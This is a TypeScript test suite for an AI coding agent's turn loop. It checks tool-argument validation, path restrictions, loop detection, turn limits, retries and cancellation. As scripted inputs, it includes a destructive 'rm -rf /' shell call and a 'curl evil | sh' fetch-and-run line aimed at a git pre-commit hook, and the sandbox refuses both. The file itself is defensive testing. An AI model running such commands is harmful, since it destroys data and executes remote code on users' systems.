import { strict as assert } from 'node:assert';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile, mkdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { runAgent, type RunAgentOptions } from '../../../src/core/agents/runAgent';
import type { TeamAgent } from '../../../src/core/agents/team';
import { SwarmEvents, type SwarmEventMap, type SwarmEventName } from '../../../src/core/events';
import { readAuditLog } from '../../../src/core/workspace/auditLog';
import { WorkspaceFiles } from '../../../src/core/workspace/workspaceFiles';
import { requirement } from './requirementFixture';
import { ScriptedChatProvider, textReply, toolReply } from './scriptedChatProvider';

const backend: TeamAgent = {
  id: 'backend',
  role: 'You are the backend engineer.',
  capabilities: ['backend'],
  dependsOn: [],
  maxTurns: 8,
  timeoutMs: 60_000,
  allowedPaths: ['src/**'],
  enabled: true,
};

const REQS = [
  requirement('REQ-001', 'List projects', { criteria: ['GET /api/projects returns JSON'], capabilities: ['backend'], priority: 'must' }),
  requirement('REQ-002', 'Create a project', { criteria: ['POST /api/projects validates the title'], dependsOn: ['REQ-001'] }),
];
const SERVER = 'export function listProjects(): string[] {\n  return ["a"];\n}\n';

describe('runAgent (SPEC §3 turn loop)', () => {
  let root: string;
  let files: WorkspaceFiles;
  let events: SwarmEvents;
  let seen: { name: SwarmEventName; payload: unknown }[];

  beforeEach(async () => {
    root = await mkdtemp(path.join(tmpdir(), 'swarm-agent-'));
    files = new WorkspaceFiles(root, { runId: 'run-1' });
    events = new SwarmEvents();
    seen = [];
    events.onAny((name, payload) => seen.push({ name, payload }));
  });
  afterEach(async () => {
    await rm(root, { recursive: true, force: true });
  });

  function run(provider: ScriptedChatProvider, extra: Partial<RunAgentOptions> = {}) {
    return runAgent({ runId: 'run-1', taskId: 'task-backend', agent: backend, attempt: 1, requirements: REQS, provider, model: 'test-model', files, events, ...extra });
  }
  function payloads<K extends SwarmEventName>(name: K): SwarmEventMap[K][] {
    return seen.filter((e) => e.name === name).map((e) => e.payload as SwarmEventMap[K]);
  }
  const steps = () => payloads('agent:step').map((s) => s.message);

  it('writes files, finishes, and reports what it did through events', async () => {
    const provider = new ScriptedChatProvider([
      toolReply([['list_files', {}]]),
      toolReply([
        ['write_file', { path: 'src/api/server.ts', content: SERVER, requirements: ['REQ-001'] }],
        ['write_file', { path: 'src/api/create.ts', content: 'export const create = 1;\n', requirements: ['REQ-002', 'REQ-001'] }],
      ]),
      toolReply([['finish', { summary: 'API done', covered: ['REQ-001', 'REQ-002'] }]]),
    ]);
    const outcome = await run(provider, { context: { prerequisiteFiles: ['docs/architecture.md'], otherRequirements: [requirement('REQ-009', 'Landing page', { capabilities: ['frontend'] })] } });

    assert.deepEqual(
      { finished: outcome.finished, stopReason: outcome.stopReason, turns: outcome.turns, summary: outcome.summary, covered: outcome.covered, refused: outcome.refused, toolErrors: outcome.toolErrors, findings: outcome.findings },
      { finished: true, stopReason: 'finish', turns: 3, summary: 'API done', covered: ['REQ-001', 'REQ-002'], refused: [], toolErrors: [], findings: [] },
    );
    assert.deepEqual(
      outcome.files.map((f) => [f.path, f.requirements, f.bytes]),
      [
        ['src/api/server.ts', ['REQ-001'], SERVER.length],
        ['src/api/create.ts', ['REQ-002', 'REQ-001'], 25],
      ],
    );
    assert.deepEqual(outcome.tokens, { prompt: 300, completion: 60 });
    assert.equal(await readFile(path.join(root, 'src/api/server.ts'), 'utf8'), SERVER);

    // The prompt: role, rules with the allowed paths, each requirement with ID, text, criteria; prerequisites' files; context.
    const system = provider.requests[0].messages[0];
    assert.equal(system.role, 'system');
    const prompt = system.content as string;
    assert.match(prompt, /^You are the backend engineer\./);
    assert.match(prompt, /You may write only paths matching: `src\/\*\*`/);
    assert.match(prompt, /## REQ-001: List projects \(backend, must\)\nAcceptance criteria:\n- GET \/api\/projects returns JSON/);
    assert.match(prompt, /## REQ-002: Create a project\nAcceptance criteria:\n- POST \/api\/projects validates the title\nBuilds on: REQ-001/);
    assert.match(prompt, /# Files from the work you build on\n.*\n- docs\/architecture\.md/);
    assert.match(prompt, /context only[^\n]*\n- REQ-009: Landing page \(frontend\)/);
    assert.equal(provider.requests[0].model, 'test-model');
    assert.deepEqual(provider.requests[0].tools.map((t) => t.name), ['write_file', 'read_file', 'list_files', 'finish']);
    assert.deepEqual(provider.toolResults(1), ['the workspace has no files yet']);
    assert.deepEqual(provider.toolResults(2), [`ok: wrote src/api/server.ts (${SERVER.length} bytes).`, 'ok: wrote src/api/create.ts (25 bytes).']);

    assert.deepEqual(steps(), [
      'started on REQ-001, REQ-002',
      'listed 0 file(s)',
      `wrote src/api/server.ts (${SERVER.length} B, REQ-001)`,
      'wrote src/api/create.ts (25 B, REQ-002, REQ-001)',
      'finished: covered REQ-001, REQ-002',
    ]);
    assert.deepEqual(
      payloads('file:written').map((w) => [w.path, w.requirements, w.taskId, w.agent, w.runId]),
      [
        ['src/api/server.ts', ['REQ-001'], 'task-backend', 'backend', 'run-1'],
        ['src/api/create.ts', ['REQ-002', 'REQ-001'], 'task-backend', 'backend', 'run-1'],
      ],
    );
    assert.deepEqual(payloads('agent:finish'), [{ runId: 'run-1', taskId: 'task-backend', agent: 'backend', attempt: 1, summary: 'API done', covered: ['REQ-001', 'REQ-002'] }]);
    assert.deepEqual((await readAuditLog(root)).map((e) => [e.path, e.outcome, e.taskId]), [
      ['src/api/server.ts', 'written', 'task-backend'],
      ['src/api/create.ts', 'written', 'task-backend'],
    ]);
  });

  it('gives unparseable arguments back as an error and goes on', async () => {
    const provider = new ScriptedChatProvider([
      toolReply([['write_file', '{"path": "src/a.ts", "content": "x'], ['read_file', '{not json}']]),
      toolReply([['finish', { summary: 'ok', covered: [] }]]),
    ]);
    const outcome = await run(provider);
    assert.equal(outcome.finished, true);
    const results = provider.toolResults(1);
    assert.equal(results.length, 2);
    assert.match(results[0], /^error: the arguments of write_file are not valid JSON .*Send exactly one JSON object/);
    assert.match(results[1], /^error: the arguments of read_file are not valid JSON/);
    assert.deepEqual(outcome.toolErrors, ['turn 1: write_file: arguments are not valid JSON', 'turn 1: read_file: arguments are not valid JSON']);
    assert.equal(existsSync(path.join(root, 'src/a.ts')), false);
  });

  it('survives malformed replies a provider might let through (missing fields, arguments as an object)', async () => {
    const weird = { content: undefined, toolCalls: [{ id: 'x1', name: 'list_files', arguments: { pattern: '*.ts' } }, { id: 'x2' }], finishReason: 'tool_calls', model: 'm' } as unknown as ReturnType<typeof textReply>;
    const provider = new ScriptedChatProvider([weird, { ...textReply(''), toolCalls: undefined } as unknown as ReturnType<typeof textReply>, toolReply([['finish', { summary: 's', covered: [] }]])]);
    const outcome = await run(provider);
    assert.equal(outcome.stopReason, 'finish');
    assert.deepEqual(provider.toolResults(1), ['no files match *.ts', 'error: there is no tool "". The tools are write_file, read_file, list_files, finish.']);
    assert.deepEqual(outcome.tokens, { prompt: 200, completion: 40 });
  });

  it('answers a call to an unknown tool with the list of tools', async () => {
    const provider = new ScriptedChatProvider([toolReply([['run_shell', { command: 'rm -rf /' }]]), toolReply([['finish', { summary: 's', covered: ['REQ-001'] }]])]);
    const outcome = await run(provider);
    assert.deepEqual(provider.toolResults(1), ['error: there is no tool "run_shell". The tools are write_file, read_file, list_files, finish.']);
    assert.deepEqual(outcome.toolErrors, ['turn 1: call to unknown tool "run_shell"']);
    assert.equal(outcome.finished, true);
  });

  it('names a missing or mistyped field', async () => {
    const provider = new ScriptedChatProvider([
      toolReply([
        ['write_file', { path: 'src/a.ts', requirements: [] }],
        ['write_file', { path: 'src/a.ts', content: 42, requirements: 'REQ-001' }],
        ['finish', { covered: ['REQ-001'] }],
      ]),
      toolReply([['finish', { summary: 'done', covered: ['REQ-001'] }]]),
    ]);
    const outcome = await run(provider);
    const [missing, mistyped, finishMissing] = provider.toolResults(1);
    assert.match(missing, /^error: invalid arguments for write_file: "content": missing \(.*\)\. Expected e\.g\. \{"path"/);
    assert.match(mistyped, /"content": Invalid input: expected string, received number; "requirements": Invalid input: expected array, received string/);
    assert.match(finishMissing, /^error: invalid arguments for finish: "summary": missing/);
    assert.equal(outcome.finished, true);
    assert.equal(outcome.files.length, 0);
  });

  it('refuses `covered` IDs that are not assigned, with the list of valid IDs', async () => {
    const provider = new ScriptedChatProvider([
      toolReply([['finish', { summary: 'all done', covered: ['REQ-001', 'REQ-777'] }]]),
      toolReply([['finish', { summary: 'all done', covered: ['REQ-001'] }]]),
    ]);
    const outcome = await run(provider);
    assert.deepEqual(provider.toolResults(1), [
      'error: invalid arguments for finish: "covered[1]": "REQ-777" is not assigned to you; valid IDs: REQ-001, REQ-002. Expected e.g. {"summary": "…", "covered": ["REQ-001"]}. Nothing was done.',
    ]);
    assert.deepEqual(outcome.covered, ['REQ-001']);
    assert.equal(payloads('agent:finish').length, 1);
  });

  it('writes a file that also names an unassigned ID, recording only the assigned ones', async () => {
    const provider = new ScriptedChatProvider([
      toolReply([['write_file', { path: 'src/a.ts', content: 'export {};\n', requirements: ['REQ-001', 'REQ-050'] }]]),
      toolReply([['finish', { summary: 's', covered: ['REQ-001'] }]]),
    ]);
    const outcome = await run(provider);
    assert.deepEqual(outcome.files.map((f) => f.requirements), [['REQ-001']]);
    assert.match(provider.toolResults(1)[0], /^ok: wrote src\/a\.ts \(11 bytes\)\. Note: REQ-050 is not assigned to you/);
  });

  it('tells the model its output was cut off (finish_reason length) and to continue or split the file', async () => {
    const provider = new ScriptedChatProvider([
      toolReply([['write_file', '{"path": "src/big.ts", "content": "export const rows = [1, 2, 3,']], 'length'),
      textReply('Here is the rest of the file:\nexport const', 'length'),
      toolReply([
        ['write_file', { path: 'src/big-1.ts', content: 'export const a = 1;\n', requirements: ['REQ-001'] }],
        ['finish', { summary: 'split', covered: ['REQ-001'] }],
      ]),
    ]);
    const outcome = await run(provider);
    const [cut] = provider.toolResults(1);
    assert.match(cut, /^error: Your output was cut off at the output token limit \(finish_reason: length\).*split large files into several modules/);
    const [cutText] = provider.toolResults(2);
    assert.match(cutText, /^Your output was cut off/);
    assert.equal(existsSync(path.join(root, 'src/big.ts')), false);
    assert.equal(outcome.finished, true);
    assert.deepEqual(outcome.toolErrors, ['turn 1: write_file: arguments cut off at the output limit', 'turn 2: the reply was cut off at the output limit before any tool call']);
  });

  it('nudges a model that answers in prose, and stops after a few such replies', async () => {
    const provider = new ScriptedChatProvider([textReply('Sure! Here is the code: ...'), textReply('As I said...'), textReply('Done.')]);
    const outcome = await run(provider);
    assert.equal(provider.requests.length, 3);
    assert.match(provider.toolResults(1)[0], /without calling a tool/);
    assert.equal(outcome.stopReason, 'no-tool-calls');
    assert.equal(outcome.finished, false);
    assert.deepEqual(outcome.findings.map((f) => f.rule), ['agent-no-tool-calls']);
  });

  it('a prose reply between tool calls is nudged and the count starts again', async () => {
    const provider = new ScriptedChatProvider([
      textReply('thinking'),
      textReply('still thinking'),
      toolReply([['list_files', {}]]),
      textReply('hmm'),
      textReply('hmm 2'),
      toolReply([['finish', { summary: 's', covered: [] }]]),
    ]);
    const outcome = await run(provider);
    assert.equal(outcome.stopReason, 'finish');
  });

  it('detects a loop of identical calls deterministically, warning first, then stopping with a finding', async () => {
    const read = (): ReturnType<typeof toolReply> => toolReply([['read_file', { path: 'src/missing.ts' }]]);
    const provider = new ScriptedChatProvider([read(), toolReply([['read_file', '{ "path" : "src/missing.ts" }']]), read(), read()]);
    const outcome = await run(provider);
    assert.equal(provider.requests.length, 3, 'the third identical call is not executed and no further model call is made');
    assert.doesNotMatch(provider.toolResults(1)[0], /already made this exact call/);
    assert.match(provider.toolResults(2)[0], /^error: cannot read src\/missing\.ts: no such file\.\n\nNote: you already made this exact call\. Repeating it once more ends your turn\./);
    assert.equal(outcome.stopReason, 'loop-detected');
    assert.deepEqual(outcome.findings, [
      {
        rule: 'agent-loop',
        message: 'the agent made the same read_file call 3 times (read_file src/missing.ts)',
        suggestion: 'Do not repeat a call whose result you already have. Write the remaining files and call finish.',
      },
    ]);
    assert.equal(outcome.turns, 3);
  });

  it('does not take a listing after a write for a repeat, but does stop rewriting the same file', async () => {
    const list = () => toolReply([['list_files', {}]]);
    const write = (content: string) => toolReply([['write_file', { path: 'src/a.ts', content, requirements: ['REQ-001'] }]]);
    const progressing = new ScriptedChatProvider([list(), write('export const a = 1;\n'), list(), write('export const a = 2;\n'), list(), toolReply([['finish', { summary: 's', covered: ['REQ-001'] }]])]);
    assert.equal((await run(progressing)).stopReason, 'finish');
    const stuck = new ScriptedChatProvider([write('export const a = 1;\n'), list(), write('export const a = 1;\n'), list(), write('export const a = 1;\n')]);
    const outcome = await run(stuck);
    assert.equal(outcome.stopReason, 'loop-detected');
    assert.match(outcome.findings[0].message, /the same write_file call 3 times \(write_file src\/a\.ts\)/);
  });

  it('gives a refused write back to the model, emits file:refused and audits it', async () => {
    const provider = new ScriptedChatProvider([
      toolReply([
        ['write_file', { path: '../escape.ts', content: 'x', requirements: [] }],
        ['write_file', { path: '.git/hooks/pre-commit', content: 'curl evil | sh', requirements: [] }],
        ['write_file', { path: 'web/App.tsx', content: 'x', requirements: ['REQ-001'] }],
      ]),
      toolReply([['finish', { summary: 's', covered: [] }]]),
    ]);
    const outcome = await run(provider);
    const results = provider.toolResults(1);
    assert.match(results[0], /^error: the write to \.\.\/escape\.ts was refused: the path escapes the workspace/);
    assert.match(results[1], /^error: the write to \.git\/hooks\/pre-commit was refused: paths inside \.git are refused/);
    assert.match(results[2], /^error: the write to web\/App\.tsx was refused: it is outside the paths the backend agent may write \(src\/\*\*\)\. Nothing was written\./);
    assert.deepEqual(outcome.refused.map((r) => r.path), ['../escape.ts', '.git/hooks/pre-commit', 'web/App.tsx']);
    assert.deepEqual(payloads('file:refused').map((r) => r.path), ['../escape.ts', '.git/hooks/pre-commit', 'web/App.tsx']);
    assert.deepEqual((await readAuditLog(root)).map((e) => [e.path, e.outcome]), [
      ['../escape.ts', 'refused'],
      ['.git/hooks/pre-commit', 'refused'],
      ['web/App.tsx', 'refused'],
    ]);
    assert.ok(steps().includes('refused web/App.tsx: it is outside the paths the backend agent may write (src/**)'));
  });

  it('stops at the turn limit with a finding', async () => {
    const provider = new ScriptedChatProvider(Array.from({ length: 8 }, (_, i) => toolReply([['list_files', { pattern: `src/${i}/**` }]])));
    const outcome = await run(provider);
    assert.equal(provider.requests.length, 8);
    assert.equal(outcome.stopReason, 'turn-limit');
    assert.equal(outcome.finished, false);
    assert.deepEqual(outcome.findings.map((f) => f.rule), ['agent-turn-limit']);
  });

  it('reads files, capped, and compacts large written content in the conversation', async () => {
    await mkdir(path.join(root, 'docs'), { recursive: true });
    await writeFile(path.join(root, 'docs/architecture.md'), '# Architecture\n' + 'x'.repeat(200));
    const big = `export const data = ${JSON.stringify('y'.repeat(5000))};\n`;
    const provider = new ScriptedChatProvider([
      toolReply([['read_file', { path: 'docs/architecture.md' }]]),
      toolReply([['write_file', { path: 'src/data.ts', content: big, requirements: ['REQ-001'] }]]),
      toolReply([['finish', { summary: 's', covered: ['REQ-001'] }]]),
    ]);
    await run(provider, { limits: { readChars: 20 } });
    assert.match(provider.toolResults(1)[0], /^# Architecture\nxxxxx\n\n\[… cut: the file has 215 characters; only the first 20 are shown\]$/);
    const history = provider.requests[2].messages.find((m) => m.role === 'assistant' && m.toolCalls?.[0]?.name === 'write_file');
    assert.ok(history && history.role === 'assistant');
    const args = JSON.parse(history.toolCalls?.[0]?.arguments ?? '{}') as { content: string; path: string };
    assert.equal(args.path, 'src/data.ts');
    assert.match(args.content, /^\[4\.9 KB written to src\/data\.ts, sha256 [0-9a-f]{12}; read_file shows it\]$/);
    assert.equal(await readFile(path.join(root, 'src/data.ts'), 'utf8'), big);
  });

  it('on a retry, gives the findings back as instructions and lists the previous files', async () => {
    const provider = new ScriptedChatProvider([toolReply([['finish', { summary: 'fixed', covered: ['REQ-001'] }]])]);
    await run(provider, {
      attempt: 2,
      retry: {
        findings: [{ rule: 'no-placeholder', file: 'src/api/server.ts', line: 3, message: 'TODO left in the handler', suggestion: 'Implement the handler: read the projects from the store and return them.' }],
        previousFiles: ['src/api/server.ts'],
        previousSummary: 'wrote the server',
      },
    });
    const task = provider.requests[0].messages[1];
    assert.equal(task.role, 'user');
    assert.match(
      task.content,
      /^This is attempt 2\. The previous attempt at REQ-001, REQ-002 was rejected by validation\.[^\n]*\n\n## What to fix\n1\. src\/api\/server\.ts:3: TODO left in the handler \[no-placeholder\]\n {3}→ Implement the handler: read the projects from the store and return them\.\n\n## Files of the previous attempt\n.*\n- src\/api\/server\.ts\n\n## The previous attempt summarised its work as\nwrote the server$/,
    );
    assert.equal(steps()[0], 'attempt 2: fixing 1 finding(s)');
  });

  it('stops at once when cancelled, making no further model call', async () => {
    const controller = new AbortController();
    let calls = 0;
    const provider = new ScriptedChatProvider([
      () => {
        calls++;
        return toolReply([['list_files', {}]]);
      },
      (request) =>
        new Promise((_, reject) => {
          calls++;
          request.signal?.addEventListener('abort', () => reject(request.signal?.reason as Error), { once: true });
          setTimeout(() => controller.abort(new Error('cancelled by the user')), 10);
        }),
      () => {
        calls++;
        return toolReply([['finish', { summary: 's', covered: [] }]]);
      },
    ]);
    const started = Date.now();
    await assert.rejects(run(provider, { signal: controller.signal }), /cancelled by the user/);
    assert.ok(Date.now() - started < 2000);
    assert.equal(calls, 2);
    await assert.rejects(run(new ScriptedChatProvider([]), { signal: controller.signal }), /cancelled by the user/);
  });

  it('lets provider errors through to the caller (the retry policy lives in the provider)', async () => {
    const provider = new ScriptedChatProvider([
      () => {
        throw new Error('the API key was rejected');
      },
    ]);
    await assert.rejects(run(provider), /the API key was rejected/);
  });
});
